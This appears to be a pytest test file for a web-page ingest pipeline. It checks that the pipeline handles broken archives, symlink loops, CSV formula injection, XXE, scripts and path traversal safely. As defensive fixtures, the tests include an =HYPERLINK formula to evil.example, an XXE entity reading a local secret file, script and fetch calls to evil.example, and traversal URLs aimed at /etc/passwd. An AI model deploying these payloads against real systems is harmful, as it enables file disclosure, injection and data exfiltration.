"""Untrusted pages, shared output folders, spreadsheets: nothing lost, nothing hangs, nothing runs.

Inputs are written here by the tests (hostile and ordinary pages, broken archives, odd links and
names); nothing is read from outside the temporary folders.
"""

from __future__ import annotations

import errno
import gzip
import io
import json
import os
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline import load_settings
from pipeline.io import OutputError, load_table, write_csv, write_json, write_parquet
from pipeline.lock import OutputLocked, output_lock
from pipeline.schema import to_arrow
from pipeline.stages.ingest import IngestError, make_document, plan_shards, read_shard

ARTICLE = """<html><head><title>{title}</title></head><body><h1>{title}</h1>
<p>VIENNA, 4 May 2014 - The OSCE Special Monitoring Mission reported on Tuesday that {n} observers visited the region.</p>
<p>The observers met local officials and residents in several towns about {title} and will publish a report next week.</p>
<p>Ivan Petrov, the head of the mission, said the work on {title} would continue through the summer months.</p>
</body></html>"""


def article(title: str = "Observers visit the region", n: int = 12) -> str:
    return ARTICLE.format(title=title, n=n)


def _items(path: Path, settings=None):
    settings = settings or load_settings()
    shards, errors, _ = plan_shards([path], settings)
    items = list(errors)
    for shard in shards:
        items.extend(read_shard(shard, settings))
    return items


def _errors(items) -> dict[str, IngestError]:
    return {i.error_type: i for i in items if isinstance(i, IngestError)}


# --------------------------------------------------------------------------------------- bad input


def test_stray_nul_and_control_bytes_are_cleaned_and_the_page_kept():
    data = article().encode().replace(b"observers visited", b"observers\x00 visited\x07\x1b")
    doc = make_document(data, "p.html", load_settings(), url="https://x.example/a\x01b\n")
    assert not isinstance(doc, IngestError)
    assert "\x00" not in doc.text and "\x07" not in doc.text and "\x1b" not in doc.text
    assert doc.url == "https://x.example/a%01b"
    assert any("3 control characters" in n for n in doc.notes)


def test_real_binary_is_still_refused():
    settings = load_settings()
    for data in (b"%PDF-1.7\n" + bytes(range(256)) * 20, b"\x89PNG\r\n\x1a\n" + b"\x00" * 500, bytes(range(32)) * 200):
        result = make_document(data, "b", settings)
        assert isinstance(result, IngestError) and result.error_type == "binary_content"


def test_cleaning_is_an_errors_row_with_the_doc_id(tmp_path):
    (tmp_path / "p.html").write_bytes(article().encode().replace(b"region", b"reg\x00ion"))
    items = _items(tmp_path)
    docs = [i for i in items if not isinstance(i, IngestError)]
    notes = [i for i in items if isinstance(i, IngestError)]
    assert len(docs) == 1 and "region" in docs[0].text
    assert [(n.error_type, n.doc_id) for n in notes] == [("cleaned_control_characters", docs[0].doc_id)]


def _warc(n: int, gz: bool) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=gz)
    for i in range(n):
        http = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        payload = io.BytesIO(article(f"Page {i}", i).encode())
        writer.write_record(writer.create_warc_record(f"https://x.example/{i}", "response", payload=payload, http_headers=http))
    return buf.getvalue()


@pytest.mark.parametrize("gz", [False, True])
def test_a_truncated_warc_record_is_an_errors_row_with_its_offset(tmp_path, gz):
    data = _warc(3, gz)
    path = tmp_path / ("crawl.warc.gz" if gz else "crawl.warc")
    path.write_bytes(data[: len(data) - 30])
    items = _items(path)
    docs = [i for i in items if not isinstance(i, IngestError)]
    errors = [i for i in items if isinstance(i, IngestError)]
    assert len(docs) == 2
    assert len(errors) == 1 and errors[0].error_type == "truncated_warc_record"
    offset = int(errors[0].source.rsplit("#offset=", 1)[1])
    assert offset > int(docs[-1].source.rsplit("#offset=", 1)[1])


def test_broken_jsonl_lines_and_a_truncated_gzip_are_errors_rows_with_line_numbers(tmp_path):
    lines = [json.dumps({"url": f"https://x.example/{i}", "html": article(f"Item {i}", i)}) for i in range(4)]
    lines[1] = lines[1][:40]  # cut mid-record
    lines.insert(3, "[" * 100_000)  # nested beyond the parser's recursion limit
    lines.append(json.dumps({"url": {"not": "a string"}, "html": article("Odd url"), "content_type": 7}))
    (tmp_path / "crawl.jsonl").write_text("\n".join(lines) + "\n")
    items = _items(tmp_path / "crawl.jsonl")
    bad = sorted(i.source.rsplit("=", 1)[1] for i in items if isinstance(i, IngestError))
    assert bad == ["2", "4"]
    docs = [i for i in items if not isinstance(i, IngestError)]
    assert len(docs) == 4 and docs[-1].url is None

    packed = gzip.compress(("\n".join(lines) + "\n").encode())
    (tmp_path / "cut.jsonl.gz").write_bytes(packed[: len(packed) * 2 // 3])
    items = _items(tmp_path / "cut.jsonl.gz")
    assert any(isinstance(i, IngestError) and i.error_type == "corrupt_gzip" and "#line=" in i.source for i in items)


def test_links_loops_pipes_and_unreadable_files_are_errors_rows(tmp_path, monkeypatch):
    root = tmp_path / "in"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "good.html").write_text(article())
    (root / "broken.html").symlink_to(root / "nowhere.html")
    (root / "self1").symlink_to(root / "self2")
    (root / "self2").symlink_to(root / "self1")
    (root / "sub" / "up").symlink_to(root)  # a folder loop
    os.mkfifo(root / "pipe.html")  # reading it would block the run forever
    (root / "locked.html").write_text(article("Locked"))
    real_open = open

    def deny(path, *args, **kwargs):  # permission bits do not stop root, so refuse the read here
        if str(path).endswith("locked.html"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr("builtins.open", deny)
    items = _items(root)
    kinds = sorted(i.error_type for i in items if isinstance(i, IngestError))
    assert kinds == ["broken_symlink", "not_a_file", "symlink_loop", "symlink_loop", "symlink_loop", "unreadable"]
    assert [d.source for d in items if not isinstance(d, IngestError)] == [str(root / "sub" / "good.html")]


# --------------------------------------------------------------------------------------- table cells


def test_no_control_character_reaches_a_table_cell():
    row = {"doc_id": "d", "url": "https://x/\x07", "title": "A\x00B\nC", "body_text": "one\x00two\n\nthree\tfour\x1b", "author": ["X\x0bY"]}
    cells = to_arrow("documents", [row]).to_pylist()[0]
    assert cells["url"] == "https://x/ " and cells["title"] == "A B C" and cells["author"] == ["X Y"]
    assert cells["body_text"] == "one two\n\nthree\tfour "  # same length: offsets into the body stay right
    assert to_arrow("errors", [{"source": "name\udcff.html"}]).to_pylist()[0]["source"] == "name\ufffd.html"


FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+1+2", "-2+3", "@SUM(A1)", "'=already quoted", "plain", "'kept", "-"]


def test_csv_cells_that_would_start_a_formula_are_neutralized_and_load_back_raw(tmp_path):
    rows = [{"doc_id": f"d{i}", "title": t, "n_words": -i, "author": [t, "B"], "body_text": "\t" + t} for i, t in enumerate(FORMULAS)]
    table = to_arrow("documents", rows)
    write_csv(table, tmp_path / "documents.csv")
    text = (tmp_path / "documents.csv").read_text()
    assert '"\'=HYPERLINK(' in text and '"\'+1+2"' in text and '"\'@SUM(A1)"' in text and '"\'\tplain"' in text
    assert '"\'\'=already quoted"' in text and '"\'kept"' in text  # only quotes before a trigger are escaped
    assert '"=' not in text and '"+' not in text and '"@' not in text
    assert ",-3," in text  # a number stays a number
    frame = load_table("documents", tmp_path)
    assert list(frame["title"]) == FORMULAS
    assert list(frame["body_text"]) == ["\t" + t for t in FORMULAS]
    assert list(frame["author"]) == [[t, "B"] for t in FORMULAS]
    assert list(frame["n_words"]) == [-i for i in range(len(FORMULAS))]


def test_the_guard_can_be_switched_off(tmp_path):
    settings = load_settings(overrides={"csv_formula_guard": "false"})
    assert settings.csv_formula_guard is False
    write_csv(to_arrow("documents", [{"doc_id": "d", "title": "=1+2"}]), tmp_path / "documents.csv", formula_guard=False)
    write_json(tmp_path / "run.json", {"settings": settings.as_dict()})
    assert '"=1+2"' in (tmp_path / "documents.csv").read_text()
    assert list(load_table("documents", tmp_path)["title"]) == ["=1+2"]


def test_a_run_guards_csv_and_keeps_parquet_raw(tmp_path):
    from pipeline import run

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "f.html").write_text(article("=HYPERLINK(\"http://evil.example\",\"x\")"))
    run([tmp_path / "in"], tmp_path / "out", load_settings())
    assert '"\'=HYPERLINK(' in (tmp_path / "out" / "documents.csv").read_text()
    assert pq.read_table(tmp_path / "out" / "documents.parquet").column("title").to_pylist() == ['=HYPERLINK("http://evil.example","x")']


# --------------------------------------------------------------------------------------- files


def test_outputs_get_the_umasks_permissions(tmp_path):
    old = os.umask(0o002)
    try:
        write_parquet(to_arrow("errors", []), tmp_path / "errors.parquet")
        write_json(tmp_path / "run.json", {})
    finally:
        os.umask(old)
    for name in ("errors.parquet", "run.json"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o664


def test_a_full_disk_is_a_clear_error_and_the_old_table_stays(tmp_path, monkeypatch):
    target = tmp_path / "errors.parquet"
    write_parquet(to_arrow("errors", [{"source": "old"}]), target)

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    with pytest.raises(OutputError, match="disk is full"):
        write_parquet(to_arrow("errors", [{"source": "new"}]), target)
    assert pq.read_table(target).column("source").to_pylist() == ["old"]
    assert [p.name for p in tmp_path.iterdir()] == ["errors.parquet"]  # no temporary file left


def test_an_unwritable_folder_is_a_clear_error(tmp_path, monkeypatch):
    import tempfile

    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(OutputError, match="no permission to write"):
        write_json(tmp_path / "run.json", {})


@pytest.mark.skipif(os.geteuid() == 0, reason="permission bits do not stop root")
def test_a_read_only_folder_is_a_clear_error(tmp_path):
    (tmp_path / "ro").mkdir()
    (tmp_path / "ro").chmod(0o500)
    try:
        with pytest.raises(OutputError):
            write_json(tmp_path / "ro" / "run.json", {})
    finally:
        (tmp_path / "ro").chmod(0o700)


def test_a_second_run_on_one_folder_is_refused(tmp_path):
    with output_lock(tmp_path):
        with pytest.raises(OutputLocked, match=f"pid {os.getpid()}"):
            with output_lock(tmp_path):
                pass
    with output_lock(tmp_path):  # released: the next run goes ahead
        pass


def test_a_killed_runs_lock_does_not_block_the_next(tmp_path):
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time; from pipeline.lock import output_lock\nwith output_lock(sys.argv[1]):\n    print('held', flush=True); time.sleep(60)", str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(OutputLocked, match=f"pid {holder.pid}"):
            with output_lock(tmp_path):
                pass
    finally:
        holder.kill()
        holder.wait()
    with output_lock(tmp_path):
        pass


# --------------------------------------------------------------------------------------- no surprises


@pytest.fixture
def no_network(monkeypatch):
    attempts = []

    def refuse(self, address, *args):
        attempts.append(address)
        raise OSError("network access during a run")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


def test_hostile_pages_run_without_network_scripts_or_external_entities(tmp_path, no_network):
    from pipeline import run

    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-7731")
    pages = tmp_path / "in"
    pages.mkdir()
    (pages / "xxe.html").write_text(
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret}"><!ENTITY ext SYSTEM "http://evil.example/x.dtd">]>'
        + article("Entity &xxe; &ext;").replace("observers visited", "observers &xxe; visited")
    )
    (pages / "script.html").write_text(
        article("Scripted").replace("</h1>", '</h1><script>document.write("SCRIPT-RAN-4411"); fetch("http://evil.example")</script>'
        '<img src="http://evil.example/x.png" onerror="alert(1)"><iframe src="http://evil.example"></iframe>')
    )
    out = tmp_path / "out"
    run([pages], out, load_settings())
    docs = load_table("documents", out)
    everything = "".join((out / f).read_text(errors="replace") for f in os.listdir(out) if f.endswith(".csv"))
    assert "TOPSECRET" not in everything and "SCRIPT-RAN" not in everything
    assert len(docs) == 2
    assert no_network == []


def test_hostile_urls_and_file_names_never_become_output_paths(tmp_path):
    from pipeline import run

    pages = tmp_path / "in"
    pages.mkdir()
    names = ["x..%2F..%2Fescape.html", "a b\tc.html", "-rf.html", "=cmd.html", "x" * 200 + ".html"]
    towns = ["Osh", "Bender", "Mostar", "Tuzla", "Khujand"]
    hostile_urls = ["https://../../../0/..%2f/etc/passwd?/../../x", "https://" + "h" * 300 + ".example/a", "https://ev il\\..\\x/", "https://%2e%2e/etc", "file:///etc/passwd"]
    for i, name in enumerate(names):
        (pages / name).write_text(article(f"Observers visit {towns[i]}", i))
    (pages / "crawl.jsonl").write_text(
        "\n".join(json.dumps({"file": n, "url": url}) for n, url in zip(names, hostile_urls)) + "\n"
    )
    before = {p for p in tmp_path.rglob("*")}
    out = tmp_path / "out"
    run([pages], out, load_settings())
    created = {p for p in tmp_path.rglob("*")} - before
    assert all(out in p.parents or p == out for p in created)
    assert len(load_table("documents", out)) == len(names)
    for p in created:  # every output name comes from the table names, a plain host name or hashes
        assert not any(bad in p.name for bad in ("passwd", "escape", "cmd", "rf.", "a b", "hhhh", "..", " ", "%"))


def test_exit_codes(tmp_path):
    from typer.testing import CliRunner

    from pipeline.cli import app

    (tmp_path / "good").mkdir()
    (tmp_path / "good" / "a.html").write_text(article())
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "a.html").write_bytes(b"")
    runner = CliRunner()
    assert runner.invoke(app, ["run", str(tmp_path / "good"), "--out", str(tmp_path / "o1"), "-q"]).exit_code == 0
    assert runner.invoke(app, ["run", str(tmp_path / "bad"), "--out", str(tmp_path / "o2"), "-q"]).exit_code == 1
    assert runner.invoke(app, ["run", str(tmp_path / "good"), "--out", str(tmp_path / "o3"), "--format", "xls"]).exit_code == 2


def test_a_run_refuses_a_folder_another_run_holds(tmp_path):
    from pipeline import run

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.html").write_text(article())
    with output_lock(tmp_path / "out"):
        with pytest.raises(OutputLocked, match="another run is writing to"):
            run([tmp_path / "in"], tmp_path / "out", load_settings())
    assert not (tmp_path / "out" / "documents.parquet").exists()
